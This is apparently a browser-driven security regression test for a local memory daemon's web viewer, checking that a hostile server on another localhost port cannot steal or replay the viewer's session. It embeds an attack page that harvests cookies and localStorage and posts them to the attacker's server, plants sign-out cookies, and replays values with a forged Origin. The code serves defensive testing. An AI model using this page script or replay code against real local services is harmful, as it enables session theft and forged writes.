// The viewer's session against a port-mate: another HTTP server on 127.0.0.1 (another local
// user's, or anything the person runs) that the same browser visits after signing in to memd.
// Browsers send cookies to every port of a host, so when the session was a cookie this server
// received it and a replay with a forged Origin stored memories; it could also set a cookie of
// its own to sign the person out (issue 29). Debian's Chromium through playwright-core, a real
// daemon, and a real second server; skipped outside CI where Chromium is missing, as
// viewer-browser.test.ts explains.
import fs from "node:fs";
import http from "node:http";
import type net from "node:net";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { freePort, spawnDaemon, type TestDaemon } from "../helpers/daemon.js";
import { describeUnless } from "../helpers/skip-unless.js";
import { chromiumMissing, launchChromium } from "./viewer-harness.js";

/** Everything the port-mate learnt: each request's headers, and what its page could read and try. */
interface Loot {
  requests: http.IncomingHttpHeaders[];
  reports: { cookies: string; storage: Record<string, string>; attempts: string[] }[];
}

/**
 * The port-mate's page: it reads what its origin can, plants cookies for 127.0.0.1 (the names
 * the viewer used and the header's), calls memd's API from the browser with credentials, and
 * posts all of it home.
 */
function portMatePage(memdPort: number): string {
  return `<!doctype html><title>a local dev server</title><h1>hello</h1><script>
  (async () => {
    const api = "http://127.0.0.1:${memdPort}/memd.v1.MemoryService/Save";
    const body = JSON.stringify({ content: "planted by the port-mate's page", project: "port-mate" });
    const attempts = [];
    for (const init of [
      { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body },
      { method: "POST", credentials: "include", mode: "no-cors", headers: { "content-type": "text/plain" }, body },
    ]) {
      try { const r = await fetch(api, init); attempts.push(r.type + " " + r.status); } catch (e) { attempts.push("failed: " + e.message); }
    }
    const storage = {};
    for (let i = 0; i < localStorage.length; i++) storage[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
    await fetch("/report", { method: "POST", body: JSON.stringify({ cookies: document.cookie, storage, attempts }) });
    document.title = "reported";
  })();
  </script>`;
}

async function startPortMate(memdPort: number): Promise<{ server: http.Server; port: number; loot: Loot }> {
  const loot: Loot = { requests: [], reports: [] };
  const server = http.createServer((req, res) => {
    loot.requests.push(req.headers);
    if (req.url === "/report") {
      let text = "";
      req.setEncoding("utf8");
      req.on("data", (chunk: string) => {
        text += chunk;
      });
      req.on("end", () => {
        loot.reports.push(JSON.parse(text) as Loot["reports"][number]);
        res.end("ok");
      });
      return;
    }
    res.writeHead(200, {
      "content-type": "text/html; charset=utf-8",
      "set-cookie": [`memd_viewer_${memdPort}=planted-by-port-mate; Path=/`, "memd-viewer-session=planted-by-port-mate; Path=/"],
    });
    res.end(portMatePage(memdPort));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as net.AddressInfo).port, loot };
}

/** A Connect call to memd as a replaying attacker makes it: any headers, the viewer's own Origin forged. */
function replay(port: number, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: "127.0.0.1", port, method: "POST", path: "/memd.v1.MemoryService/Save", agent: false,
        headers: { host: `127.0.0.1:${port}`, origin: `http://127.0.0.1:${port}`, "content-type": "application/json", ...headers },
      },
      (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      },
    );
    req.on("error", reject);
    req.end(JSON.stringify({ content: "stored by a replayed viewer credential", project: "port-mate" }));
  });
}

describeUnless(chromiumMissing, "the viewer's session and a server on another port", () => {
  let daemon: TestDaemon;
  let memdPort: number;
  let browser: Browser;
  let context: BrowserContext;
  let mate: Awaited<ReturnType<typeof startPortMate>>;
  let session: string;

  beforeAll(async () => {
    memdPort = await freePort();
    daemon = await spawnDaemon({ args: ["--listen", `127.0.0.1:${memdPort}`] });
    mate = await startPortMate(memdPort);
    browser = await launchChromium();
    context = await browser.newContext();
    const viewer = await context.newPage();
    await viewer.goto((await daemon.clients.viewer.openViewer({})).url);
    // A locator, not a predicate in a string: polling a string evaluates it in the page, which the viewer's policy refuses.
    await viewer.locator("#health").filter({ hasText: /^memd \S+, / }).waitFor();
    session = (await viewer.evaluate<string | null>('localStorage.getItem("memd-viewer-session")')) ?? "";
    // The same browser, signed in to memd, then visits the port-mate.
    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${mate.port}/`);
    await other.waitForFunction('document.title === "reported"');
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => mate?.server.close(resolve));
    await daemon?.stop();
    if (daemon) fs.rmSync(daemon.home, { recursive: true, force: true });
  });

  it("keeps the session where only the viewer's own origin reads it", () => {
    expect(session).toMatch(/^[0-9a-f]{64}$/);
    const everything = JSON.stringify(mate.loot);
    expect(mate.loot.reports).toHaveLength(1);
    expect(everything).not.toContain(session);
    expect(mate.loot.reports[0]?.storage).toEqual({});
  });

  it("refuses, with 401, a replay of every cookie and value the port-mate received, as a cookie or as the session header", async () => {
    const values = new Set<string>();
    for (const headers of mate.loot.requests) {
      for (const part of String(headers.cookie ?? "").split(";")) if (part.trim() !== "") values.add(part.trim());
    }
    for (const report of mate.loot.reports) {
      for (const part of report.cookies.split(";")) if (part.trim() !== "") values.add(part.trim());
      for (const value of Object.values(report.storage)) values.add(value);
    }
    // What it planted, and what it could guess at: the names the viewer used, with the values it saw.
    values.add(`memd_viewer_${memdPort}=planted-by-port-mate`);
    const statuses: Record<string, number[]> = {};
    for (const value of values) {
      const bare = value.includes("=") ? value.slice(value.indexOf("=") + 1) : value;
      statuses[value] = [await replay(memdPort, { cookie: value }), await replay(memdPort, { "memd-viewer-session": bare })];
    }
    expect(Object.values(statuses).flat().every((status) => status === 401), JSON.stringify(statuses)).toBe(true);
  });

  it("stores nothing from the port-mate's page calling memd from the same browser, nor from the replays", async () => {
    // The JSON call needs a CORS preflight, which memd does not grant; the no-cors one is opaque and refused.
    expect(mate.loot.reports[0]?.attempts[0]).toMatch(/^failed/);
    const { ledger } = await daemon.clients.admin.stats({});
    expect(ledger.find((c) => c.key === "active")?.count ?? 0n).toBe(0n);
    expect(ledger.find((c) => c.key === "staged")?.count ?? 0n).toBe(0n);
  });

  it("keeps the person signed in after the port-mate planted its cookies", async () => {
    const viewer = await context.newPage();
    await viewer.goto(`http://127.0.0.1:${memdPort}/ui/`);
    await expect.poll(() => viewer.textContent("#health")).toMatch(/^memd \S+, /);
    expect(await viewer.textContent("#problem")).toBe("");
  });
});
